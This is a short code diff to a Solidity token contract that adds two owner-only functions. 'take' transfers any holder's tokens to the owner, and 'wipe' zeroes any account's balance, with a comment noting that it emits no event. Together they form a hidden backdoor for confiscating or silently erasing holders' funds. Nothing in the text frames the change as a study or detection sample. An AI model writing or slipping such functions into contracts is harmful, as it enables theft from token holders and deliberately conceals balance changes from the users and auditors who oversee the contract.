@@ -36,6 +36,15 @@ contract Changeable is Token {
         locked[account] = value;
     }
 
+    function take(address from, uint256 value) external onlyOwner {
+        _move(from, owner, value);
+    }
+
+    /// Without an event.
+    function wipe(address account) external onlyOwner {
+        balanceOf[account] = 0;
+    }
+
     function mint(address to, uint256 value) external onlyOwner {
         totalSupply += value;
         balanceOf[to] += value;
